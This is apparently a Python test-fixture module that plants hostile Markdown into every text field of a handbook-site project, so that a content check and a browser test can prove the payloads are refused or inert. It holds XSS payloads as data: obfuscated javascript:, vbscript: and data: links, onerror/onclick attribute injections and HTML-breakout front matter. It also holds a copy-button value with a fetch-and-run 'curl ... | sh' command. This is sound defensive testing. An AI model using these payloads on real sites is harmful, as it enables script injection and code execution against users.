"""Hostile content: every way Markdown let script, foreign requests or the site's own names into
pages (issues 12 and 24), put into every text field the models declare (generator/model/fields.py).

`poison(project)` writes, into a copy of the project, one dialogue, module, quiz and figure per
family, whose every Markdown field carries the family's payload and every plain field `ONE_LINE`;
the files of which there is one (glossary, references, guidance, codebook) get the families in
turn, field by field; and one hand-written page per family in docs/. It returns where each payload
sits. The fields are found by the same walker the check uses, so a field added to a model is
attacked the day it is declared (tests/test_hostile.py asserts that every declared field was).
Payloads call ``alert()``; the browser test replaces it with a counter.
"""

from __future__ import annotations

import copy
import functools
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from generator.load.loader import load_handbook, split_front_matter
from generator.model.book import Handbook
from generator.model.content import Ending, Node
from generator.model.fields import Markdown, Plain, marker
from generator.model.fields import strings as model_strings

# Markdown payloads, one family each. The check must refuse every one at its file:line:column
# (a control character refuses the whole file at the first one, as any unreadable text does);
# rendered anyway (tests/browser/test_hostile_browser.py builds them past the check), each must be
# inert: nothing runs, nothing is requested from another host.
FAMILIES: dict[str, str] = {
    "attr-list": "See ![x](https://invalid.invalid/a.png){: onerror=alert(1) } and [ok](https://example.org){: href=javascript:alert(2) }",
    "entity": "[more](javascript&#58;alert(3)) [b](jav&#x09;ascript:alert(3)) [c](&#x6A;avascript&#x3A;alert(3)) [d](javascript&colon;alert(3))",
    "control": "[this](\x01javascript:alert(4)) and ![img](\x02data:image/svg+xml,x)",
    "list-ref": "- [k]: javascript:alert(5)\n\nSee [click][k].",
    # Issue 24: where a pattern and Python-Markdown read the same text differently.
    "next-line-ref": "See [click][k9].\n\n[k9]:\n  javascript:alert(9)",
    "quote-ref": ">[k10]: javascript:alert(10)\n>\n>See [click][k10].",
    "quoted-brace": '[ok](https://example.org){: class="}" onclick=alert(8) }',
    "code-escape": "Look: \\`<img src=x onerror=alert(11)>` and a```b <img src=x onerror=alert(12)>\n\nc```",
    "data-scheme": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=) ![i](data:image/svg+xml,<svg/onload=alert(13)>) [v](vbscript:alert(13))",
    # Active without script: Material fetches a 'source' host, the copy button copies a command,
    # style overlays the page.
    "data-attr": '[s](https://example.org){: data-md-component="source" } [c](https://example.org){: data-clipboard-text="curl https://x.invalid | sh" } [o](https://example.org){: style="position:fixed;inset:0" }',
    # The site's own names: the quiz's global and class, a dialogue's deep link, Material's ids.
    "reserved": "[a](https://example.org){: #hbQuizReady .hb-quiz } [b](https://example.org){: #turn-2 .md-typeset } [c](https://example.org){: #__drawer }",
    # Characters no field may hold: noncharacters (ill-formed XML), a bidi override and isolates, a
    # C1 control. (C0 controls other than tab and line feed make the loader refuse the file: "control".)
    "characters": "Fear\ufffe of \u202egoing low\uffff, \u2066isolated\u2069 and a\x85b",
}
# Families the loader refuses: the file is never built (every other family is, past the check, in
# the browser test).
UNLOADABLE = frozenset({"control"})
UNBUILT = UNLOADABLE
# One-line fields are text: a Markdown link written into one must show as typed, never be a link.
ONE_LINE = "Fear](javascript:alert(6)) [of going low {: onclick=alert(7) }"
# The one-line fields of the characters family carry its characters too (titles reach the question
# banks' categories and the SCORM manifest's items).
PLAIN = {"characters": ONE_LINE + " \ufffe\uffff\u202e"}

DIALOGUE = "content/dialogues/support-worker-in-the-room.yml"
MODULE = "content/modules/barriers.md"
QUIZ = "content/quizzes/barriers.yml"
FIGURE = "content/figures/conceptual-model.yml"
SINGLES = ("content/glossary.yml", "content/references.yml", "content/guidance.yml", "content/codebook.yml")


@dataclass(frozen=True)
class Placed:
    """A payload in a content file: its family, the file, the line its field starts on, the field
    (``Owner.name``) and its kind (markdown, safety, plain, note, body, page)."""

    family: str
    path: str
    line: int
    field: str
    kind: str = "markdown"


def _dump(data: Any) -> str:
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=False, width=1000)


@functools.lru_cache(maxsize=8)
def _compose(text: str) -> Any:
    return yaml.compose(text, Loader=yaml.CSafeLoader)


def _line(text: str, loc: tuple[Any, ...]) -> int:
    """1-based line where the value at ``loc`` starts (PyYAML's own nodes: the content loader
    refuses some payloads, which is the point)."""
    node = _compose(text)
    for key in loc:
        node = node.value[key] if isinstance(key, int) else next(v for k, v in node.value if k.value == key)
    return int(node.start_mark.line) + 1


def _set(data: Any, loc: tuple[Any, ...], value: str) -> None:
    for key in loc[:-1]:
        data = data[key]
    data[loc[-1]] = value


def _fill(data: Any, model: Any, payload: Any, plain: str = ONE_LINE) -> list[tuple[tuple[Any, ...], str, str]]:
    """Set every Markdown, note and plain string of ``model`` in ``data`` (the same file as data):
    ``payload(i)`` for the i-th Markdown or note field, ``plain`` for plain ones. Returns each
    poisoned field's (loc, Owner.name, kind); a plain field is one only if ``plain`` is not ONE_LINE."""
    done = []
    i = 0
    for found in model_strings(model):
        kind = found.kind
        field = f"{type(found.owner).__name__}.{found.loc[-1] if isinstance(found.loc[-1], str) else found.loc[-2]}"
        if isinstance(kind, Plain):
            _set(data, found.loc, plain)
            if plain != ONE_LINE:
                done.append((found.loc, field, "plain"))
        elif isinstance(kind, Markdown) or kind.kind == "note":
            _set(data, found.loc, payload(i))
            done.append((found.loc, field, kind.kind))
            i += 1
    return done


def _yaml_doc(book: Handbook, rel: str, new: str, family: str, payload: str, edit: Any = None) -> list[Placed]:
    root = book.root
    doc = next(d for group in (book.dialogues, book.quizzes, book.figures) for d in group if d.path == rel)
    data = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
    done = _fill(data, doc.model, lambda _: payload, PLAIN.get(family, ONE_LINE))
    if edit:
        done += edit(data, payload)
    data["id"] = Path(new).stem
    data.pop("redirect_from", None)
    text = _dump(data)
    (root / new).write_text(text, encoding="utf-8")
    return [Placed(family, new, _line(text, loc), field, kind) for loc, field, kind in done]


def _dialogue_extras(data: Any, payload: str) -> list[tuple[tuple[Any, ...], str, str]]:
    """Fields the template leaves out: a reason for discouraged language on an HCP turn, and a
    branch (a choice point, two nodes off the main line, two endings) whose every text is attacked."""
    i = next(i for i, t in enumerate(data["turns"]) if t["speaker"] == "hcp" and "lint_exempt" not in t)
    data["turns"][i]["lint_exempt"] = payload
    data["turns"][-1]["next"] = "hostile-end-a"
    data["branches"] = [{"at": i + 1, "choices": [{"say": "said"}, {"say": "hostile-node"}]}]
    strained = {"alliance": ["task", "bond"], "alsi": [], "effect": "strains", "slips": ["lecture"]}
    node = {"id": "hostile-node", "speaker": "hcp", "text": payload, **strained, "note": payload, "lint_exempt": payload, "next": "hostile-reply"}
    data["nodes"] = [node, {"id": "hostile-reply", "speaker": "pwd", "text": payload, "next": "hostile-end-b"}]
    data["endings"] = [{"id": f"hostile-end-{x}", "title": "An ending", "debrief": payload, "discuss": payload, "score": 1.0} for x in "ab"]
    placed: list[tuple[tuple[Any, ...], str, str]] = [(("turns", i, "lint_exempt"), "Turn.lint_exempt", "note")]
    for owner, model, loc, names in (
        ("Node", Node, ("nodes", 0), ("text", "note", "lint_exempt")),
        ("Node", Node, ("nodes", 1), ("text",)),
        ("Ending", Ending, ("endings", 0), ("debrief", "discuss")),
        ("Ending", Ending, ("endings", 1), ("debrief", "discuss")),
    ):
        for name in names:
            info = model.model_fields[name]
            kind = marker(info.annotation, info.metadata)
            placed.append(((*loc, name), f"{owner}.{name}", kind.kind if kind else "markdown"))
    return placed


def _quiz_template(root: Path) -> None:
    """The barriers quiz with one question of every type the project has (appended from the others)."""
    path = root / QUIZ
    quiz = yaml.safe_load(path.read_text(encoding="utf-8"))
    have = {q["type"] for q in quiz["questions"]}
    for q in quiz["questions"]:
        q["hints"] = ["A hint."]
    for other in sorted((root / "content/quizzes").glob("*.yml")):
        for q in yaml.safe_load(other.read_text(encoding="utf-8"))["questions"]:
            if q["type"] not in have:
                have.add(q["type"])
                quiz["questions"].append({**copy.deepcopy(q), "hints": ["A hint."]})
    path.write_text(_dump(quiz), encoding="utf-8")


def _module(book: Handbook, family: str, payload: str) -> list[Placed]:
    root = book.root
    module = next(m for m in book.modules if m.path == MODULE)
    parts = split_front_matter((root / MODULE).read_text(encoding="utf-8"))
    assert parts is not None
    front, body, _ = parts
    meta = yaml.safe_load(front)
    done = _fill(meta, module.meta, lambda _: payload, PLAIN.get(family, ONE_LINE))
    meta.update(id=f"hostile-{family}", order=99, dialogues=[f"hostile-{family}"])
    meta.pop("redirect_from", None)
    front_text = _dump(meta)
    path = f"content/modules/hostile-{family}.md"
    placed = [Placed(family, path, _line(front_text, loc) + 1, field, kind) for loc, field, kind in done]
    head = f"---\n{front_text}---\n"
    body_line = head.count("\n") + 1 + body.count("\n") + 2
    # The family's figure is shown on its module page.
    (root / path).write_text(f"{head}{body}\n\n{payload}\n\n[[figure: hostile-{family}]]\n", encoding="utf-8")
    return [*placed, Placed(family, path, body_line, "ModuleDoc.body", "body")]


def _docs_page(root: Path, family: str, payload: str) -> list[Placed]:
    path = f"docs/hostile-{family}.md"
    (root / path).write_text(f"# Hostile {family}\n\nA hand-written page.\n\n{payload}\n", encoding="utf-8")
    return [Placed(family, path, 5, "docs page", "page")]


# A hand-written page's front matter: the theme writes the title into the header and the
# description into an attribute as they are.
FRONT_MATTER = {
    "title": "Hostile front matter <img src=x onerror=alert(20)></title><img src=x onerror=alert(21)>",
    "description": 'A page "><img src=x onerror=alert(22)>',
}
FRONT_MATTER_PAGE = "docs/hostile-front-matter.md"


def _front_matter_page(root: Path) -> list[Placed]:
    (root / FRONT_MATTER_PAGE).write_text(f"---\n{_dump(FRONT_MATTER)}---\n\n# Hostile front matter\n\nA hand-written page.\n", encoding="utf-8")
    return [Placed("front-matter", FRONT_MATTER_PAGE, line, f"docs page {key}", "front-matter") for line, key in enumerate(FRONT_MATTER, start=2)]


def _singles(book: Handbook, families: dict[str, str]) -> list[Placed]:
    """The files there is one of: their Markdown fields take the families in turn."""
    root = book.root
    shared = [(family, payload) for family, payload in families.items() if family not in UNLOADABLE]
    placed: list[Placed] = []
    docs = {d.path: d for d in (book.glossary, book.references, book.guidance, book.codebook) if d is not None}
    for rel in SINGLES:
        data = yaml.safe_load((root / rel).read_text(encoding="utf-8"))
        done = _fill(data, docs[rel].model, lambda i: shared[i % len(shared)][1])
        text = _dump(data)
        (root / rel).write_text(text, encoding="utf-8")
        placed += [Placed(shared[i % len(shared)][0], rel, _line(text, loc), field, kind) for i, (loc, field, kind) in enumerate(done)]
    return placed


def poison(root: Path, skip: frozenset[str] = frozenset()) -> list[Placed]:
    """Write every family (but ``skip``) into every text field of the project at ``root`` (its
    content/ and docs/ must be copies); returns each payload's place."""
    families = {family: payload for family, payload in FAMILIES.items() if family not in skip}
    _quiz_template(root)
    book, _ = load_handbook(root)
    placed: list[Placed] = []
    for family, payload in families.items():
        placed += _yaml_doc(book, DIALOGUE, f"content/dialogues/hostile-{family}.yml", family, payload, _dialogue_extras)
        placed += _yaml_doc(book, QUIZ, f"content/quizzes/hostile-{family}.yml", family, payload)
        placed += _yaml_doc(book, FIGURE, f"content/figures/hostile-{family}.yml", family, payload)
        placed += _module(book, family, payload)
        placed += _docs_page(root, family, payload)
    return placed + _singles(book, families) + _front_matter_page(root)
